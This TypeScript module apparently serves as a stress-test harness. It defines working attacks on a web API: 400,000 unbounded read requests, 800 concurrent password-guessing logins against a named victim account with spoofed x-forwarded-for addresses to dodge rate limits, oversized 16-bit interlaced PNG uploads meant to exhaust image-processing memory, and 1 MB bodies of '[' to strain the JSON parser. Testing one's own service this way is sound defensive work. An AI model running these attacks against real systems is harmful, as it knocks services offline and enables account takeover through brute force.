import { randomBytes } from 'node:crypto';
import { Agent, request } from 'node:http';
import sharp from 'sharp';

/** Number of responses per status. Status 0 means no response. */
export type Statuses = Record<number, number>;

export interface Target {
  origin: string;
  /** Tokens of people who can upload pictures. */
  tokens: string[];
  /** Login of the account under password guessing. */
  victim: string;
}

export interface Attack {
  name: string;
  /** Memory limit of the process during the attack. */
  memoryMaxMb?: number;
  run: (target: Target) => Promise<Statuses>;
}

interface Sent {
  method?: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
}

const timeoutMs = 60_000;

function send(agent: Agent, url: string, { method = 'GET', headers = {}, body }: Sent = {}): Promise<number> {
  return new Promise((resolve) => {
    const sent = request(url, { method, headers, agent, timeout: timeoutMs }, (response) => {
      response.resume().on('end', () => resolve(response.statusCode ?? 0));
    });
    sent.on('timeout', () => sent.destroy()).on('error', () => resolve(0));
    sent.end(body);
  });
}

/** Sends `count` requests, at most `atOnce` at the same time. */
async function sendMany(count: number, atOnce: number, one: (agent: Agent, index: number) => Promise<number>) {
  const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
  const statuses: Statuses = {};
  let next = 0;
  const work = async (): Promise<void> => {
    while (next < count) {
      next += 1;
      const status = await one(agent, next);
      statuses[status] = (statuses[status] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: Math.min(atOnce, count) }, work));
  agent.destroy();
  return statuses;
}

const marks = '!?.,;:-_*/';
/** Unlimited series of public read addresses. */
const endless: ((index: number) => string)[] = [
  (index) =>
    `/api/guide/search?q=${encodeURIComponent([...String(index)].map((digit) => marks[Number(digit)]).join(''))}`,
  (index) => `/api/guide?page=${index}&size=${1 + (index % 500)}`,
  (index) => `/api/teacher-schedules?page=${index}`,
  (index) => `/api/guide/search?q=w${index.toString(36)}&typed=whole`,
];

const json = { 'content-type': 'application/json' };
const signIn = (target: Target, address: (index: number) => string) =>
  sendMany(800, 800, (agent, index) =>
    send(agent, `${target.origin}/api/auth/login`, {
      method: 'POST',
      headers: { ...json, 'x-forwarded-for': address(index) },
      body: JSON.stringify({ login: target.victim, password: `wrong-${index}` }),
    }),
  );

async function upload({ origin, tokens }: Target, picture: Buffer): Promise<Statuses> {
  const boundary = randomBytes(12).toString('hex');
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="avatar"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`;
  const body = Buffer.concat([Buffer.from(head), picture, Buffer.from(`\r\n--${boundary}--\r\n`)]);
  return sendMany(tokens.length, tokens.length, (agent, index) =>
    send(agent, `${origin}/api/auth/avatar/upload`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${tokens[index - 1]}`,
        'content-type': `multipart/form-data; boundary=${boundary}`,
      },
      body,
    }),
  );
}

const draw = (side: number) =>
  sharp({ create: { width: side, height: side, channels: 4, background: { r: 9, g: 90, b: 200, alpha: 0.5 } } });

export const attacks: Attack[] = [
  {
    name: '400,000 reads of addresses without an end',
    memoryMaxMb: 250,
    run: ({ origin }) =>
      sendMany(400_000, 32, (agent, index) => send(agent, origin + (endless[index % endless.length]?.(index) ?? '/'))),
  },
  { name: '800 wrong sign-ins at once from one address', run: (target) => signIn(target, () => '203.0.113.9') },
  {
    name: '800 wrong sign-ins at once from 800 addresses',
    run: (target) => signIn(target, (index) => `203.0.${Math.floor(index / 250)}.${index % 250}`),
  },
  {
    name: 'four pictures of 49 megapixels, 16 bits, interlaced, at once',
    memoryMaxMb: 500,
    run: async (target) =>
      upload(target, await draw(7000).toColourspace('rgb16').png({ progressive: true }).toBuffer()),
  },
  {
    name: 'four pictures of 25 megapixels, interlaced, at once',
    memoryMaxMb: 500,
    run: async (target) => upload(target, await draw(5000).png({ progressive: true }).toBuffer()),
  },
  {
    name: '50 bodies of 1 MB of `[` at once',
    run: ({ origin }) =>
      sendMany(50, 50, (agent) =>
        send(agent, `${origin}/api/auth/login`, { method: 'POST', headers: json, body: '['.repeat(2 ** 20) }),
      ),
  },
];
